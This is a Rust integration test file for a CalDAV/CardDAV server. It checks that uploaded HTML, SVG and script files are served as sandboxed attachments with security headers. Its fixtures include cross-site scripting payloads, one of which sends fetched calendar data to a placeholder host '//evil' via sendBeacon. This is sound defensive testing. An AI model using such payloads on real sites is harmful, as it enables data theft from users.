//! Content served from the server's own origin never runs as it, on both stores:
//! uploaded files are sandboxed attachments with active types downgraded,
//! calendar and vCard data stay inline and unchanged for DAV clients, and every
//! kind of response carries the security headers.

mod common;

use common::*;

use reqwest::Method;
use reqwest::blocking::{RequestBuilder, Response};

agora_testkit::on_both_stores!(
    uploaded_files_are_sandboxed_attachments,
    active_types_are_served_as_octet_stream_everywhere,
    calendar_and_vcard_objects_stay_inline,
    every_kind_of_response_carries_security_headers,
);

/// The policy of stored objects (crates/agora-dav/src/security_headers.rs).
const OBJECT_CSP: &str = "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'; sandbox";
/// The policy of every other response.
const DEFAULT_CSP: &str = "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'";

const FILES: &str = "/calendars/alice/files/";

fn start(backend: Backend) -> (StoreEnv, Server) {
    let env = StoreEnv::new(backend);
    let server = Server::start(&env, &["--initial-admin", "false"]);
    add_users(&env, &["alice"]);
    (env, server)
}

fn req(server: &Server, method: &str, path: &str) -> RequestBuilder {
    client()
        .request(Method::from_bytes(method.as_bytes()).unwrap(), server.url(path))
        .basic_auth("alice", Some(PASSWORD))
}

fn header(r: &Response, name: &str) -> Option<String> {
    r.headers().get(name).map(|v| v.to_str().unwrap().to_owned())
}

/// Makes the plain collection (MKCOL without a body, RFC 4918 §9.3).
fn mkcol_files(server: &Server) {
    assert_eq!(req(server, "MKCOL", FILES).send().unwrap().status(), 201);
}

/// PUTs `body` as `content_type` at `path`, answering the ETag.
fn put(server: &Server, path: &str, content_type: &str, body: &str) -> String {
    let r = req(server, "PUT", path).header("Content-Type", content_type).body(body.to_owned()).send().unwrap();
    assert_eq!(r.status(), 201, "PUT {path}");
    header(&r, "etag").expect("PUT answers an ETag")
}

/// Checks the headers every response carries, with `csp` as its policy.
fn assert_security_headers(r: &Response, csp: &str, what: &str) {
    assert_eq!(header(r, "x-content-type-options").as_deref(), Some("nosniff"), "{what}");
    assert_eq!(header(r, "referrer-policy").as_deref(), Some("no-referrer"), "{what}");
    assert_eq!(header(r, "x-frame-options").as_deref(), Some("DENY"), "{what}");
    assert_eq!(header(r, "cross-origin-resource-policy").as_deref(), Some("same-origin"), "{what}");
    assert_eq!(header(r, "content-security-policy").as_deref(), Some(csp), "{what}");
    assert_eq!(r.headers().get_all("content-security-policy").iter().count(), 1, "one policy only: {what}");
}

/// GETs an uploaded file and checks it comes back as a sandboxed attachment of
/// the given type and name, byte for byte.
fn assert_attachment(server: &Server, path: &str, served_type: &str, encoded_name: &str, body: &str) {
    let r = req(server, "GET", path).send().unwrap();
    assert_eq!(r.status(), 200, "GET {path}");
    assert_security_headers(&r, OBJECT_CSP, path);
    assert_eq!(header(&r, "content-type").as_deref(), Some(served_type), "{path}");
    let disposition = format!("attachment; filename*=UTF-8''{encoded_name}");
    assert_eq!(header(&r, "content-disposition"), Some(disposition), "{path}");
    assert!(header(&r, "etag").is_some(), "{path}");
    assert_eq!(r.text().unwrap(), body, "{path}");
}

const HTML: &str = "<!doctype html><html><body><script>fetch('/calendars/alice/')</script></body></html>";
const SVG: &str =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><script>alert(1)</script></svg>";
const JS: &str = "fetch('/calendars/alice/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));";

fn uploaded_files_are_sandboxed_attachments(backend: Backend) {
    let (_env, server) = start(backend);
    mkcol_files(&server);
    put(&server, "/calendars/alice/files/page.html", "text/html; charset=utf-8", HTML);
    put(&server, "/calendars/alice/files/image.svg", "image/svg+xml", SVG);
    put(&server, "/calendars/alice/files/app.js", "application/javascript", JS);
    // The stored type, not the name, is what a browser would go by.
    put(&server, "/calendars/alice/files/notes.txt", "text/html", HTML);
    put(&server, "/calendars/alice/files/r%C3%A9sum%C3%A9%201.txt", "text/plain; charset=utf-8", "plain text");

    for (path, name, body) in [
        ("page.html", "page.html", HTML),
        ("image.svg", "image.svg", SVG),
        ("app.js", "app.js", JS),
        ("notes.txt", "notes.txt", HTML),
    ] {
        assert_attachment(&server, &format!("{FILES}{path}"), "application/octet-stream", name, body);
    }
    // A passive type is kept; the name is encoded as RFC 8187 says.
    assert_attachment(
        &server,
        "/calendars/alice/files/r%C3%A9sum%C3%A9%201.txt",
        "text/plain; charset=utf-8",
        "r%C3%A9sum%C3%A9%201.txt",
        "plain text",
    );

    // HEAD and a 304 carry the same policy (a cache refreshing its copy keeps it).
    let head = req(&server, "HEAD", "/calendars/alice/files/page.html").send().unwrap();
    assert_eq!(head.status(), 200);
    assert_security_headers(&head, OBJECT_CSP, "HEAD");
    assert_eq!(header(&head, "content-type").as_deref(), Some("application/octet-stream"));
    assert_eq!(header(&head, "content-disposition").as_deref(), Some("attachment; filename*=UTF-8''page.html"));
    let etag = header(&head, "etag").unwrap();
    let cached = req(&server, "GET", "/calendars/alice/files/page.html").header("If-None-Match", &etag).send().unwrap();
    assert_eq!(cached.status(), 304);
    assert_security_headers(&cached, OBJECT_CSP, "304");

    // DAV:getcontenttype is GET's Content-Type (RFC 4918 §15.5).
    let propfind = r#"<d:propfind xmlns:d="DAV:"><d:prop><d:getcontenttype/></d:prop></d:propfind>"#;
    let r = req(&server, "PROPFIND", "/calendars/alice/files/page.html")
        .header("Depth", "0")
        .header("Content-Type", "application/xml")
        .body(propfind)
        .send()
        .unwrap();
    assert_eq!(r.status(), 207);
    assert_security_headers(&r, DEFAULT_CSP, "PROPFIND");
    let body = r.text().unwrap();
    assert!(body.contains("<D:getcontenttype>application/octet-stream</D:getcontenttype>"), "{body}");
}

fn active_types_are_served_as_octet_stream_everywhere(backend: Backend) {
    let (_env, server) = start(backend);
    mkcol_files(&server);
    for (i, media_type) in [
        "application/xhtml+xml",
        "text/xml",
        "application/xml",
        "text/javascript",
        "application/x-javascript",
        "text/css",
        "TEXT/HTML;charset=utf-8",
    ]
    .iter()
    .enumerate()
    {
        let path = format!("{FILES}f{i}");
        put(&server, &path, media_type, HTML);
        assert_attachment(&server, &path, "application/octet-stream", &format!("f{i}"), HTML);
    }
    // Passive types keep theirs, still as attachments.
    put(&server, "/calendars/alice/files/photo.png", "image/png", "not really a png");
    assert_attachment(&server, "/calendars/alice/files/photo.png", "image/png", "photo.png", "not really a png");
}

const EVENT: &str = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Agora tests//EN\r\nBEGIN:VEVENT\r\nUID:safety-1\r\n\
    DTSTAMP:20260101T000000Z\r\nDTSTART:20261124T100000Z\r\nDTEND:20261124T110000Z\r\nSUMMARY:Réunion\r\n\
    END:VEVENT\r\nEND:VCALENDAR\r\n";
const CARD: &str = "BEGIN:VCARD\r\nVERSION:4.0\r\nUID:safety-card\r\nFN:Jean Dupont\r\nEND:VCARD\r\n";

fn calendar_and_vcard_objects_stay_inline(backend: Backend) {
    let (_env, server) = start(backend);
    let etag = put(&server, "/calendars/alice/calendar/e.ics", "text/calendar; charset=utf-8", EVENT);
    let r = req(&server, "GET", "/calendars/alice/calendar/e.ics").send().unwrap();
    assert_eq!(r.status(), 200);
    assert_security_headers(&r, OBJECT_CSP, "calendar object");
    assert_eq!(header(&r, "content-type").as_deref(), Some("text/calendar; charset=utf-8"));
    assert_eq!(header(&r, "etag"), Some(etag.clone()), "the ETag of the PUT");
    assert_eq!(header(&r, "content-disposition"), None, "calendar data is not an attachment");
    assert_eq!(r.text().unwrap(), EVENT, "byte for byte");

    // jCal (RFC 7265) when preferred: inline too.
    let r = req(&server, "GET", "/calendars/alice/calendar/e.ics")
        .header("Accept", "application/calendar+json")
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(header(&r, "content-type").as_deref(), Some("application/calendar+json; charset=utf-8"));
    assert_eq!(header(&r, "content-disposition"), None);
    assert_security_headers(&r, OBJECT_CSP, "jCal");

    put(&server, "/addressbooks/alice/contacts/jean.vcf", "text/vcard; charset=utf-8", CARD);
    let r = req(&server, "GET", "/addressbooks/alice/contacts/jean.vcf").send().unwrap();
    assert_eq!(r.status(), 200);
    assert!(header(&r, "content-type").unwrap().starts_with("text/vcard"), "{:?}", header(&r, "content-type"));
    assert_eq!(header(&r, "content-disposition"), None, "vCard data is not an attachment");
    assert_security_headers(&r, OBJECT_CSP, "vCard");

    // An iCalendar file in a plain collection is calendar data as well.
    mkcol_files(&server);
    put(&server, "/calendars/alice/files/copy.ics", "text/calendar", EVENT);
    let r = req(&server, "GET", "/calendars/alice/files/copy.ics").send().unwrap();
    assert_eq!(header(&r, "content-type").as_deref(), Some("text/calendar"));
    assert_eq!(header(&r, "content-disposition"), None);
    assert_security_headers(&r, OBJECT_CSP, "plain .ics");
}

fn every_kind_of_response_carries_security_headers(backend: Backend) {
    let (_env, server) = start(backend);
    let anonymous = |method: &str, path: &str| {
        client().request(Method::from_bytes(method.as_bytes()).unwrap(), server.url(path)).send().unwrap()
    };
    let cases: Vec<(&str, Response, u16)> = vec![
        ("OPTIONS", req(&server, "OPTIONS", "/").send().unwrap(), 200),
        ("GET /", req(&server, "GET", "/").send().unwrap(), 200),
        ("GET collection", req(&server, "GET", "/calendars/alice/calendar/").send().unwrap(), 200),
        (
            "PROPFIND",
            req(&server, "PROPFIND", "/calendars/alice/")
                .header("Depth", "1")
                .header("Content-Type", "application/xml")
                .body(r#"<d:propfind xmlns:d="DAV:"><d:prop><d:resourcetype/></d:prop></d:propfind>"#)
                .send()
                .unwrap(),
            207,
        ),
        ("no credentials", anonymous("PROPFIND", "/calendars/alice/"), 401),
        (
            "wrong password",
            client().get(server.url("/calendars/alice/")).basic_auth("alice", Some("wrong")).send().unwrap(),
            401,
        ),
        ("missing object", req(&server, "GET", "/calendars/alice/calendar/none.ics").send().unwrap(), 404),
        ("bad request", req(&server, "PROPFIND", "/").header("Depth", "0").body("<not xml").send().unwrap(), 400),
        ("health", anonymous("GET", "/health"), 200),
        ("metrics", anonymous("GET", "/metrics"), 200),
        ("unknown feed", anonymous("GET", "/publish/0123abcd.ics"), 404),
        ("well-known", client_no_redirect().get(server.url("/.well-known/caldav")).send().unwrap(), 301),
    ];
    for (what, r, status) in cases {
        assert_eq!(r.status().as_u16(), status, "{what}");
        assert_security_headers(&r, DEFAULT_CSP, what);
        if status == 401 {
            assert!(header(&r, "www-authenticate").is_some_and(|c| c.starts_with("Basic")), "{what}");
        }
    }
    // What DAV clients rely on is still there.
    let options = req(&server, "OPTIONS", "/calendars/alice/calendar/").send().unwrap();
    assert!(header(&options, "dav").is_some_and(|d| d.contains("calendar-access")), "{:?}", options.headers());
}

fn client_no_redirect() -> reqwest::blocking::Client {
    reqwest::blocking::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}
